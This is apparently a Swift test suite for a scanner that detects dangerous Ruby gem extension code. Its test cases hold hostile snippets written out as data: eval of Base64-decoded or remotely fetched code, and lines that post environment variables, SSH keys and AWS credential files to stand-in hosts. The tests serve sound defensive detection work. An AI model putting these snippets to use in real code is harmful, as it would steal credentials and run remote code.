import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("Ruby code, what it does")
struct RubyCodeTests {
    private func facts(_ code: String) -> [Fact] {
        let bytes = Sample.gem(["ext/extconf.rb": code, "lib/sample.rb": ""], extensions: ["ext/extconf.rb"])
        return Sample.report(gem: bytes).facts
    }

    @Test(
        "a command is seen in every spelling",
        arguments: [
            "system 'id -u'", "system('id', '-u')", "`id -u`", "%x(id -u)", "x = `id #{y}`", "exec \"id\"",
            "IO.popen('id')",
            "Kernel.system('id')", "::Kernel.system 'id'", "Open3.capture3('id')", "Process.spawn('id')",
            "send(:system, 'id')",
            "Kernel.public_send('sys' + 'tem', 'id')", "Kernel.__send__ :system, 'id'", "method(:system).call('id')",
            "Object.const_get('Kernel').system('id')", "spawn <<~A\n  id\nA", "open('|id')", "system \"i\" \"d\"",
            "begin\n  puts 1\n  system 'id' if true\nend", "[1].each do |x| system 'id' end",
            "[1].each { |x| system('id') }",
            "def a\n  system 'id'\nend\na", "-> { system 'id' }.call", "Thread.new { system 'id' }",
            "at_exit do\n  `id`\nend",
            "puts \"a#{`id`}\"", "system(*%w[id -u])", "x = system 'id' unless y",
            "class A; def self.b = system('id'); end",
            "system(<<A)\nid\nA\n", "case 1 when 1 then system 'id' end", "x ? system('id') : 1",
            "def a(b = system('id')) = b", "def a b = `id`\n b\nend", "f { |a, b = `id`| a }", "def a(b: `id`)\nend",
        ]
    )
    func commands(code: String) {
        #expect(facts(code).contains { $0.code == .capabilityProcess }, "\(facts(code))")
    }

    @Test(
        "what names a command and is none",
        arguments: [
            "puts 'system \"id\"'", "# system 'id'", "x = :system", "puts %q(`id`)", "puts <<~'A'\n  #{`id`}\nA",
            "{ system: 1 }",
            "=begin\nsystem 'id'\n=end\n", "puts 1\n__END__\nsystem 'id'\n", "a = 1; a /2; puts 'system(1)' # /",
            "foo.system_name 'id'",
        ]
    )
    func harmless(code: String) {
        #expect(!facts(code).contains { $0.code == .capabilityProcess }, "\(facts(code))")
    }

    @Test(
        "decoded text that runs",
        arguments: [
            "eval Base64.decode64(x)", "eval(Base64.strict_decode64('cHV0cyAx' + x))", "eval x.unpack1('m')",
            "eval(x.unpack('m')[0])", "y = Base64.decode64(x)\neval y", "binding.eval(Base64.decode64(x))",
            "instance_eval Base64.decode64(x)", "Object.class_eval(Zlib::Inflate.inflate(x))",
            "system Base64.decode64(x)",
            "def d(v)\n  Base64.decode64(v)\nend\neval d(x)", "def d(v) = Base64.decode64(v)\neval(d(x))",
            "Thread.new { eval(Base64.decode64(x)) }", "send(:eval, Base64.decode64(x))",
            "eval(\"#{Base64.decode64(x)}\")",
            "[x].each { |v| eval(v.unpack1('m0')) }", "Kernel.eval Base64.decode64 x",
        ]
    )
    func decoded(code: String) {
        #expect(facts("require 'base64'\n" + code).contains { $0.code == .chainDecodeExecute }, "\(facts(code))")
    }

    @Test(
        "what was fetched and runs",
        arguments: [
            "eval Net::HTTP.get(URI('http://example.invalid/a'))", "eval(URI.open('http://example.invalid/a').read)",
            "eval open('http://example.invalid/a').read", "r = Net::HTTP.get_response(URI(x))\neval(r.body)",
            "def f\n  Net::HTTP.get(URI(x))\nend\neval(f())",
            "Net::HTTP.start('example.invalid') { |h| eval h.get('/').body }",
            "eval HTTParty.get('http://example.invalid/a').body",
        ]
    )
    func fetched(code: String) {
        #expect(facts("require 'net/http'\n" + code).contains { $0.code == .chainDownloadExecute }, "\(facts(code))")
    }

    @Test(
        "the environment and files of credentials that are sent",
        arguments: [
            "Net::HTTP.post(URI('http://example.invalid'), ENV.to_h.to_json)",
            "Net::HTTP.post_form(URI(x), data: ENV.to_hash)",
            "d = ENV.to_a\nNet::HTTP.post(URI(x), d.inspect)",
            "HTTParty.post('http://example.invalid', body: ENV.to_h)",
            "Net::HTTP.post(URI(x), File.read(File.expand_path('~/.ssh/id_rsa')))",
            "k = File.read(\"#{Dir.home}/.aws/credentials\")\nFaraday.post('http://example.invalid', k)",
            "q = Net::HTTP::Post.new('/')\nq.body = ENV.to_h.to_json\nNet::HTTP.new('example.invalid').request(q)",
            "s = TCPSocket.new('192.0.2.1', 80)\ns.write(ENV.to_h.inspect)",
            "s = TCPSocket.open('192.0.2.1', 80)\ns.puts ENV.to_a",
        ]
    )
    func sent(code: String) {
        #expect(facts(code).contains { $0.code == .chainExfiltration }, "\(facts(code))")
    }

    @Test(
        "what honest extensions do is no chain",
        arguments: [
            "require 'mkmf'\n$CFLAGS << ' -O3'\nhave_header('zlib.h') or abort 'zlib is missing'\ncreate_makefile('sample/sample')\n",
            "cc = ENV['CC'] || RbConfig::CONFIG['CC']\nsystem(\"#{cc} --version\")\n",
            "require 'open3'\nout, status = Open3.capture2('pkg-config --libs zlib')\n$LDFLAGS << out if status.success?\n",
            "klass.class_eval do\n  attr_reader :a\nend\n",
            "klass.class_eval <<-A, __FILE__, __LINE__ + 1\n  def #{n}; end\nA\n",
            "x = Base64.decode64(y)\nFile.binwrite('a.png', x)\n",
            "Net::HTTP.get(URI('http://example.invalid/version'))\n",
            "instance_eval(&block) if block_given?\n",
        ]
    )
    func honest(code: String) {
        #expect(!facts(code).contains { $0.code.isChain }, "\(facts(code))")
    }

    @Test("one variable that names a credential, and a source in an encoding that hides quotes")
    func others() {
        #expect(facts("x = ENV['GEM_HOST_API_KEY']").contains { $0.code == .capabilityEnvironment })
        #expect(facts("x = ENV.fetch('AWS_SECRET_ACCESS_KEY')").contains { $0.code == .capabilityEnvironment })
        #expect(facts("# coding: Shift_JIS\nputs 1").contains { $0.code == .fileUnreadable })
    }
}
